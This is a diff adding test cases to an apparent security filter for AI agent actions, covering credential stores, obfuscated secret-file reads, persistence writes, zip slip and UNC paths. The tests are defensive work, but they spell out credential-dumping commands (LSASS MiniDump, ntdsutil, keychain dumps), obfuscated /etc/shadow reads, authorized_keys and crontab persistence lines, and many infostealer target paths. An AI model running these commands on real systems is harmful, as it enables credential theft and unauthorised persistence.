@@ -408,6 +408,347 @@ describe("layer > path", () => {
     });
   });
 
+  describe("credential stores across operating systems", () => {
+    test("BLOCKs browser password, cookie and key stores of Chromium browsers and Firefox", () => {
+      for (const target of [
+        "C:\\Users\\ana\\AppData\\Local\\Google\\Chrome\\User Data\\Profile 2\\Login Data",
+        "C:\\Users\\ana\\AppData\\Local\\BraveSoftware\\Brave-Browser\\User Data\\Local State",
+        "/home/ana/.config/chromium/Default/Cookies",
+        "/Users/ana/Library/Application Support/Microsoft Edge/Default/Web Data",
+        "/home/ana/.mozilla/firefox/q1w2.default/cookies.sqlite",
+        "/Users/ana/Library/Cookies/Cookies.binarycookies",
+      ]) {
+        expectSeverity(read(target), "BLOCK");
+      }
+    });
+
+    test("BLOCKs password-manager vaults, wallets and keychains", () => {
+      for (const target of [
+        "/home/ana/vault/family.kdbx",
+        "/Users/ana/Library/Application Support/Bitwarden/data.json",
+        "/home/ana/.bitcoin/wallet.dat",
+        "/home/ana/.config/solana/id.json",
+        "/Users/ana/Library/Keychains/login.keychain-db",
+      ]) {
+        expectSeverity(read(target), "BLOCK");
+      }
+    });
+
+    test("BLOCKs Windows DPAPI, credential manager, Wi-Fi profiles and machine keys", () => {
+      for (const target of [
+        "C:\\Users\\ana\\AppData\\Roaming\\Microsoft\\Protect\\S-1-5-21-9\\0f1e",
+        "C:\\ProgramData\\Microsoft\\Wlansvc\\Profiles\\Interfaces\\{a}\\{b}.xml",
+        "C:\\ProgramData\\Microsoft\\Crypto\\RSA\\MachineKeys\\abc_123",
+        "D:\\admin\\servers.rdg",
+      ]) {
+        expectSeverity(read(target), "BLOCK");
+      }
+    });
+
+    test("BLOCKs cloud CLI, CI server and home-directory registry credentials", () => {
+      for (const target of [
+        "/home/ana/.config/doctl/config.yaml",
+        "/home/ana/.pulumi/credentials.json",
+        "/etc/openstack/clouds.yaml",
+        "/var/lib/jenkins/secrets/hudson.util.Secret",
+        "/etc/gitlab-runner/config.toml",
+        "/home/ana/.npmrc",
+        "~/.pypirc",
+        "/run/secrets/postgres_password",
+        "/etc/rancher/k3s/k3s.yaml",
+        "/etc/letsencrypt/live/shop.example.org/privkey.pem",
+        "/tmp/krb5cc_1000",
+      ]) {
+        expectSeverity(read(target), "BLOCK");
+      }
+    });
+
+    test("BLOCKs keychain, credential-manager and keyring dumps by command", () => {
+      for (const command of [
+        "security dump-keychain -d ~/Library/Keychains/login.keychain-db",
+        "security find-generic-password -ga 'Chromium Safe Storage'",
+        "cmdkey /list",
+        'vaultcmd /listcreds:"Windows Web Credentials" /all',
+        "netsh wlan show profile name=Office key=clear",
+        "rundll32.exe comsvcs.dll, MiniDump 700 C:\\t\\l.dmp full",
+        'ntdsutil "ac i ntds" "ifm" "create full c:\\x" q q',
+        "gpg --armor --export-secret-keys ana@example.org",
+        "printf 'host=git.example.org\\n' | git credential fill",
+        "secret-tool lookup service smtp",
+        "bw export --format json",
+      ]) {
+        expectSeverity(shell(command), "BLOCK");
+      }
+    });
+
+    test("BLOCKs archiving or copying a whole credential directory", () => {
+      expectSeverity(shell("tar czf /tmp/b.tgz ~/.gnupg"), "BLOCK");
+      expectSeverity(shell("zip -qr /tmp/k.zip /home/ana/.aws"), "BLOCK");
+      expectSeverity(shell("ls -la ~/.ssh && chmod 700 ~/.ssh"), "ALLOW");
+    });
+
+    test("ALLOWs harmless keychain and keyring commands", () => {
+      for (const command of [
+        "security find-identity -v -p codesigning",
+        "gpg --list-secret-keys",
+        "gpg --export --armor ana@example.org > ana.pub.asc",
+        "netsh wlan show profiles",
+        "git credential-cache exit",
+      ]) {
+        expectSeverity(shell(command), "ALLOW");
+      }
+    });
+  });
+
+  describe("shell obfuscation of file names", () => {
+    test("BLOCKs names split by quotes or backslashes, or spaced with $IFS", () => {
+      for (const command of [
+        "cat /etc/sha''dow",
+        'c"a"t "/etc/"pass"wd"',
+        "cat /etc/gsha\\dow",
+        `cat\${IFS}/etc/shadow`,
+        "tail$IFS$9/root/.ssh/id_rsa",
+      ]) {
+        expectSeverity(shell(command), "BLOCK");
+      }
+    });
+
+    test("BLOCKs globs and brace lists that expand to secret files", () => {
+      for (const command of [
+        "cat /e?c/sh*w",
+        "cat /???/??ss??",
+        "head /home/*/.ssh/id_*",
+        "cat /proc/*/environ",
+        "less /etc/{hostname,shadow}",
+      ]) {
+        expectSeverity(shell(command), "BLOCK");
+      }
+      expectSeverity(shell("cat /etc/*-release"), "ALLOW");
+      expectSeverity(shell("head -n 5 logs/*.log"), "ALLOW");
+    });
+
+    test("BLOCKs a secret read inside a command handed to another shell or interpreter", () => {
+      for (const command of [
+        "bash -c 'cat /etc/shadow'",
+        "ssh db1 'cat ~/.pgpass'",
+        "python3 -c \"print(open('/etc/shadow').read())\"",
+        'powershell -c "Get-Content $env:USERPROFILE\\.aws\\credentials"',
+        "powershell -c \"[IO.File]::ReadAllText('C:\\Users\\a\\.ssh\\id_rsa')\"",
+      ]) {
+        expectSeverity(shell(command), "BLOCK");
+      }
+      expectSeverity(shell("bash -c 'npm ci && npm test'"), "ALLOW");
+      expectSeverity(shell("ssh -i ~/.ssh/id_ed25519 deploy@build.example.org uptime"), "ALLOW");
+    });
+
+    test("BLOCKs code that joins the pieces of a credential path", () => {
+      expectSeverity(
+        {
+          action: "code_exec",
+          content:
+            "p = os.path.join(os.path.expanduser('~'), '.aws', 'credentials')\nprint(open(p).read())",
+        },
+        "BLOCK",
+      );
+      expectSeverity(
+        {
+          action: "code_exec",
+          content: "print((Path.home() / '.ssh' / 'id_ed25519').read_text())",
+        },
+        "BLOCK",
+      );
+      expectSeverity(
+        {
+          action: "code_exec",
+          content: "print((Path.home() / '.ssh' / 'id_ed25519.pub').read_text())",
+        },
+        "ALLOW",
+      );
+    });
+  });
+
+  describe("writes", () => {
+    test("BLOCKs a shell redirection, tee or copy into a persistence file", () => {
+      expectSeverity(shell("echo 'ssh-ed25519 AAAA x' >> /root/.ssh/authorized_keys"), "BLOCK");
+      expectSeverity(shell("echo '* * * * * root sh /tmp/x' | tee -a /etc/crontab"), "BLOCK");
+      expectSeverity(shell("cp /tmp/u.sh /etc/cron.d/u"), "BLOCK");
+    });
+
+    test("does not flag a PATH export appended to a shell start-up file", () => {
+      expectSeverity(shell("echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc"), "ALLOW");
+    });
+
+    test("BLOCKs a download or save into a start-up folder through any tool", () => {
+      expectSeverity(
+        {
+          action: "save_attachment",
+          params: {
+            save_as:
+              "C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.bat",
+          },
+        },
+        "BLOCK",
+      );
+      expectSeverity(
+        {
+          action: "fetch_to_disk",
+          params: { url: "https://x.example.org/a", output_path: "/etc/profile.d/a.sh" },
+        },
+        "BLOCK",
+      );
+    });
+
+    test("ALLOWs writing a secrets file that holds only placeholders", () => {
+      for (const [target, content] of [
+        ["config/database.yml", "production:\n  password: <%= ENV['DB_PASSWORD'] %>\n"],
+        [".npmrc", `//registry.npmjs.org/:_authToken=\${NPM_TOKEN}\n`],
+        [".env.production", `API_URL=\${API_URL}\nDEBUG=false\n`],
+        ["config/secrets.yml", "shared:\n  api_key: {{ vault_api_key }}\n"],
+      ]) {
+        expectSeverity({ action: "write_file", target, content }, "ALLOW");
+      }
+    });
+
+    test("WARNs on writing a literal secret into a secrets file", () => {
+      expectSeverity(
+        { action: "write_file", target: ".env", content: "STRIPE_KEY=rk_live_51abcdef\n" },
+        "WARN",
+      );
+      expectSeverity(
+        {
+          action: "write_file",
+          target: "config/database.yml",
+          content: "prod:\n  url: postgres://app:Tr0ub4dor@db/app\n",
+        },
+        "WARN",
+      );
+    });
+
+    test("reads the source of a copy as a read", () => {
+      expectSeverity(
+        { action: "copy_file", params: { src: "deploy/.env", dst: "public/env.txt" } },
+        "WARN",
+      );
+      expectSeverity(
+        { action: "copy_file", params: { src: ".env.example", dst: ".env" } },
+        "ALLOW",
+      );
+    });
+  });
+
+  describe("environment files by stage", () => {
+    test("WARNs on .env files of any stage, test and testing included", () => {
+      for (const target of ["api/.env.test", ".env.testing", "web/.env.staging", ".env.ci"]) {
+        expectSeverity(read(target), "WARN");
+      }
+    });
+
+    test("ALLOWs example env files and fixtures in test directories", () => {
+      for (const target of [
+        ".env.sample",
+        "api/.env.example",
+        "tests/fixtures/.env",
+        ".env.test.example",
+      ]) {
+        expectSeverity(read(target), "ALLOW");
+      }
+    });
+  });
+
+  describe("archives", () => {
+    test("BLOCKs entries that climb out of or ignore the extraction directory (zip slip)", () => {
+      expectCode(
+        { action: "extract_archive", params: { dest: "plugins", entries: ["p/a.py", "../a.py"] } },
+        "PATH_ARCHIVE_ENTRY",
+      );
+      expectSeverity(
+        { action: "unzip_file", params: { archive: "x.zip", members: ["/etc/cron.d/job"] } },
+        "BLOCK",
+      );
+      expectSeverity(
+        { action: "untar", target: "x.tar", content: "a/readme\n..\\..\\Windows\\a.dll\n" },
+        "BLOCK",
+      );
+    });
+
+    test("ALLOWs an ordinary extraction to an absolute destination", () => {
+      expectSeverity(
+        {
+          action: "extract_archive",
+          target: "dl/site.zip",
+          params: { dest: "/srv/www", entries: ["index.html", "css/a.css"] },
+        },
+        "ALLOW",
+      );
+    });
+  });
+
+  describe("more credential and data stores", () => {
+    test("BLOCKs personal data stores infostealers collect", () => {
+      for (const target of [
+        "/Users/ana/Library/Messages/chat.db",
+        "C:\\Users\\ana\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\History",
+        "/home/ana/.mozilla/firefox/x1.default/places.sqlite",
+      ]) {
+        expectSeverity(read(target), "BLOCK");
+      }
+    });
+
+    test("BLOCKs VPN keys, remote-desktop stores and the container runtime socket", () => {
+      for (const target of [
+        "/etc/wireguard/wg0.conf",
+        "/home/ana/.local/share/remmina/group_rdp_x.remmina",
+        "/var/run/docker.sock",
+      ]) {
+        expectSeverity(read(target), "BLOCK");
+      }
+    });
+
+    test("WARNs on a content search across the system for keys or passwords", () => {
+      expectCode(
+        shell("grep -rl 'BEGIN OPENSSH PRIVATE KEY' / 2>/dev/null"),
+        "SENSITIVE_FILE_CONTENT_HUNT",
+      );
+      expectSeverity(shell("grep -rn password docs/"), "ALLOW");
+    });
+  });
+
+  test("BLOCKs an unknown tool handed the SAM hive, not an ordinary registry key", () => {
+    expectSeverity(
+      { action: "registry_export", params: { key: "HKLM\\SAM", out: "s.hiv" } },
+      "BLOCK",
+    );
+    expectSeverity(
+      { action: "registry_read", params: { key: "HKLM\\SYSTEM\\CurrentControlSet\\Services" } },
+      "ALLOW",
+    );
+  });
+
+  describe("UNC paths", () => {
+    test("BLOCKs administrative and WebDAV shares, WARNs on a share on another network", () => {
+      expectSeverity(read("\\\\10.9.8.7\\c$\\Users\\Public\\a.txt"), "BLOCK");
+      expectSeverity(read("\\\\files.example.net@SSL\\DavWWWRoot\\a.docx"), "BLOCK");
+      expectSeverity(read("\\\\198.51.100.4\\pub\\a.txt"), "WARN");
+    });
+
+    test("ALLOWs an ordinary share on a server name and local device paths", () => {
+      expectSeverity(read("\\\\fileserver\\finance\\q3.xlsx"), "ALLOW");
+      expectSeverity(read("\\\\?\\C:\\src\\app\\README.md"), "ALLOW");
+    });
+  });
+
+  test("reads a command substitution or variable inside a path as a wildcard", () => {
+    expectSeverity(shell("cat /proc/$(pgrep -f api | head -1)/environ"), "BLOCK");
+    expectSeverity(shell("cat /proc/`pidof nginx`/environ"), "BLOCK");
+    expectSeverity(shell("strings /proc/$PID/environ"), "BLOCK");
+    expectSeverity(shell("cat logs/app-$(date +%F).log"), "ALLOW");
+  });
+
+  test("BLOCKs the nginx alias off-by-slash climb in a URL path only", () => {
+    expectSeverity(fetch("https://shop.example.org/static../app/settings.py"), "BLOCK");
+    expectSeverity(read("notes/wait../todo.md"), "ALLOW");
+  });
+
   test("the whole pipeline BLOCKs an encoded traversal to a secret file", () => {
     assert.equal(verdictOf(read("static/..%252f..%252f..%252fetc%252fshadow")), "BLOCK");
   });
